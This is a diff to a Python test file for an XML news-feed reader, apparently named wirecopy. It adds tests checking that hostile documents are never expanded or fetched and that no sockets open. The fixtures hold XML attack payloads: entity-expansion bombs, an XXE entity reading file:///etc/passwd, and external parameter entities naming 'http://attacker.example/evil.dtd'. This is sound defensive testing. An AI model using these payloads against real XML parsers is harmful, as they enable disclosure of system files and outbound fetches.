@@ -8,14 +8,14 @@ import socket
 import time
 import tracemalloc
 import warnings
-import xml.etree.ElementTree as ET
 from pathlib import Path
-from typing import Any, ClassVar
+from typing import Any
 
 import pytest
 
 import wirecopy
 from wirecopy import ParseError, SkippedDocumentWarning
+from wirecopy.kit import _xml_document
 
 # Each format's smallest document, to put after a hostile prolog.
 ROOTS = {
@@ -53,16 +53,38 @@ def external_entity(root: str) -> str:
 
 
 def parameter_entity(root: str) -> str:
-    return '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>' + root.format(
-        body="x"
-    )
+    return """<!DOCTYPE x [<!ENTITY % p "<!ENTITY e 'EXPANDED'>"> %p;]>""" + root.format(body="&e;")
+
+
+# The NewsML 1.2 boilerplate: an external parameter entity, declared and referenced.
+BOILERPLATE = '<!ENTITY % nitf SYSTEM "nitf-3-0.dtd"> %nitf;'
+
+
+def parameter_entity_twice(root: str) -> str:
+    return f'<!DOCTYPE x [{BOILERPLATE}\n<!ENTITY % nitf SYSTEM "evil.dtd"> %nitf;]>' + root.format(body="x")
+
+
+def boilerplate_then_internal(root: str) -> str:
+    return f'<!DOCTYPE x [{BOILERPLATE}\n<!ENTITY e "EXPANDED">]>' + root.format(body="&e;")
+
+
+def boilerplate_then_external(root: str) -> str:
+    return f'<!DOCTYPE x [{BOILERPLATE}\n<!ENTITY e SYSTEM "file:///etc/passwd">]>' + root.format(body="&e;")
+
+
+def internal_then_boilerplate(root: str) -> str:
+    return f'<!DOCTYPE x [<!ENTITY e "EXPANDED">\n{BOILERPLATE}]>' + root.format(body="&e;")
 
 
 ATTACKS = {
     "billion-laughs": (billion_laughs, "lol0", 3, 3),
     "quadratic-blowup": (quadratic_blowup, "big", 1, 14),
     "xxe": (external_entity, "xxe", 2, 1),
-    "parameter-entity": (parameter_entity, "remote", 1, 14),
+    "parameter-entity": (parameter_entity, "p", 1, 14),
+    "parameter-entity-twice": (parameter_entity_twice, "nitf", 2, 1),
+    "boilerplate-then-internal": (boilerplate_then_internal, "e", 2, 1),
+    "boilerplate-then-external": (boilerplate_then_external, "e", 2, 1),
+    "internal-then-boilerplate": (internal_then_boilerplate, "e", 1, 14),
 }
 
 
@@ -96,6 +118,61 @@ def test_attack_is_fast_and_small(name: str, attack: str) -> None:
     assert peak < 8 * len(data) + 4_000_000
 
 
+@pytest.mark.parametrize("errors", ["warn", "skip"])
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+@pytest.mark.parametrize("name", FORMATS)
+def test_attack_is_never_expanded_under_warn_and_skip(name: str, attack: str, errors: str) -> None:
+    """Under warn and skip the hostile document gives no article, and no entity's text shows anywhere."""
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        reader = wirecopy.load(io.BytesIO(ATTACKS[attack][0](ROOTS[name]).encode()), name, errors=errors)
+        assert list(reader) == []
+    assert [error.kind for error in reader.skipped] == ["entity-declaration"]
+    assert len(caught) == (1 if errors == "warn" else 0)
+    assert not any("EXPANDED" in str(error) or "root:" in str(error) for error in reader.skipped)
+
+
+@pytest.fixture
+def sockets(monkeypatch: pytest.MonkeyPatch) -> list[object]:
+    """The sockets opened while the test runs (none may be: opening one fails)."""
+    opened: list[object] = []
+
+    def refuse(*args: object, **kwargs: object) -> None:
+        opened.append(args)
+        raise AssertionError("a socket was opened")
+
+    monkeypatch.setattr(socket, "socket", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    return opened
+
+
+@pytest.mark.parametrize("name", FORMATS)
+def test_the_newsml_dtd_boilerplate_is_read(name: str, sockets: list[object]) -> None:
+    """The external parameter entity NewsML 1.2 feeds declare and reference is accepted, and never fetched."""
+    prolog = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>\n'
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        [article] = wirecopy.loads(prolog + ROOTS[name].format(body="Safe text."), name, errors="strict")
+    assert article.paragraphs == ("Safe text.",)
+    assert sockets == []
+
+
+def test_the_boilerplate_is_read_in_a_file_of_several_documents() -> None:
+    """A second document with the boilerplate, read through the stream's guard, is read too."""
+    document = f"<!DOCTYPE nitf [{BOILERPLATE}]>" + ROOTS["nitf"].format(body="Two.")
+    data = ROOTS["nitf"].format(body="One.") + "\n" + document
+    assert [a.paragraphs for a in wirecopy.loads(data, "nitf", errors="strict")] == [("One.",), ("Two.",)]
+
+
+def test_the_boilerplate_does_not_define_what_it_names() -> None:
+    """The parameter entity is not read: an entity its DTD would declare stays undefined."""
+    document = f"<!DOCTYPE nitf [{BOILERPLATE}]>" + ROOTS["nitf"].format(body="&nbsp;")
+    with pytest.raises(ParseError) as info:
+        wirecopy.loads(document, "nitf", errors="strict")
+    assert info.value.kind == "not-xml"
+    assert "undefined entity" in str(info.value)
+
+
 @pytest.mark.parametrize("name", FORMATS)
 def test_attack_is_skipped_with_a_warning(name: str) -> None:
     """Under warn, the hostile document is left out with a warning, and nothing else happens."""
@@ -117,22 +194,14 @@ def test_local_dtd_is_never_read(name: str, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("name", FORMATS)
-def test_network_dtd_is_never_fetched(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_network_dtd_is_never_fetched(name: str, sockets: list[object]) -> None:
     """A DTD named by URL (as the NYT corpus names nitf-3-3.dtd) is not fetched: no socket is opened."""
-    opened: list[object] = []
-
-    def refuse(*args: object, **kwargs: object) -> None:
-        opened.append(args)
-        raise AssertionError("a socket was opened")
-
-    monkeypatch.setattr(socket, "socket", refuse)
-    monkeypatch.setattr(socket, "create_connection", refuse)
     document = '<!DOCTYPE x SYSTEM "http://www.nitf.org/IPTC/NITF/3.3/specification/dtd/nitf-3-3.dtd">' + ROOTS[
         name
     ].format(body="Safe text.")
     [article] = wirecopy.loads(document, name, errors="strict")
     assert article.paragraphs == ("Safe text.",)
-    assert opened == []
+    assert sockets == []
 
 
 def test_relative_dtd_is_not_needed() -> None:
@@ -360,42 +429,33 @@ def test_text_after_a_document_is_still_a_broken_document(name: str) -> None:
 FORMAT_CLASSES = {name: type(wirecopy.get_format(name)) for name in FORMATS}
 
 
-class _CountingParser(ET.XMLParser):
-    """ElementTree's parser, counting the pieces it is fed."""
+@pytest.fixture
+def pieces(monkeypatch: pytest.MonkeyPatch) -> list[int]:
+    """The sizes of the pieces the documents' parsers are fed, in order."""
+    fed: list[int] = []
+    parse = _xml_document.DocumentParser._parse
 
-    fed: ClassVar[list[int]] = []
+    def counting(self: _xml_document.DocumentParser, piece: Any, final: bool) -> Any:
+        if piece:
+            fed.append(len(piece))
+        return parse(self, piece, final)
 
-    def feed(self, data: Any) -> None:
-        """Count the piece, then parse it."""
-        _CountingParser.fed.append(len(data))
-        super().feed(data)
-
-
-class _CountingPullParser(ET.XMLPullParser):
-    """ElementTree's pull parser, counting the pieces it is fed."""
-
-    def feed(self, data: Any) -> None:
-        """Count the piece, then parse it."""
-        _CountingParser.fed.append(len(data))
-        super().feed(data)
+    monkeypatch.setattr(_xml_document.DocumentParser, "_parse", counting)
+    return fed
 
 
-def test_a_huge_attribute_is_fed_in_growing_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
-    """A 16 MB attribute reaches the parser in a few growing pieces, not 256 chunks each read again by expat."""
-    monkeypatch.setattr(_CountingParser, "fed", [])
-    monkeypatch.setattr(ET, "XMLParser", _CountingParser)
+def test_a_huge_attribute_is_fed_in_growing_pieces(pieces: list[int]) -> None:
+    """A 16 MB attribute reaches the parser in a few growing pieces, not 1,024 pieces each read again by expat."""
     size = 16 << 20
     data = b'<nitf><head><meta name="big" content="' + b"x" * size + b'"/></head><body/></nitf>'
     [article] = wirecopy.loads(data, "nitf", errors="strict")
     assert len(article.extra["meta"]["big"]) == size
-    assert len(_CountingParser.fed) < 16
-    assert sum(_CountingParser.fed) == len(data)
+    assert len(pieces) < 24
+    assert sum(pieces) == len(data)
 
 
-def test_a_huge_attribute_in_a_message_is_fed_in_growing_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_huge_attribute_in_a_message_is_fed_in_growing_pieces(pieces: list[int]) -> None:
     """When streaming items, a token that produces no element for long is fed in growing pieces too."""
-    monkeypatch.setattr(_CountingParser, "fed", [])
-    monkeypatch.setattr(ET, "XMLPullParser", _CountingPullParser)
     size = 16 << 20
     item = ROOTS["newsml-g2"].format(body="Text.")
     data = (
@@ -405,7 +465,16 @@ def test_a_huge_attribute_in_a_message_is_fed_in_growing_pieces(monkeypatch: pyt
     ).encode()
     [article] = wirecopy.loads(data, "newsml-g2", errors="strict")
     assert article.paragraphs == ("Text.",)
-    assert len(_CountingParser.fed) < 16
+    assert len(pieces) < 24
+
+
+def test_many_documents_in_one_chunk_are_each_fed_a_short_piece(pieces: list[int]) -> None:
+    """Documents one after another in one input are each handed what is left of a short piece, not of the chunk."""
+    document = ROOTS["nitf"].format(body="Text.") + "\n"
+    data = (document * 2000).encode()
+    assert len(wirecopy.loads(data, "nitf", errors="strict")) == 2000
+    assert max(pieces) <= 1 << 16
+    assert sum(pieces) < len(data) + 2000 * 512
 
 
 @pytest.mark.parametrize("errors", ["strict", "warn", "skip"])
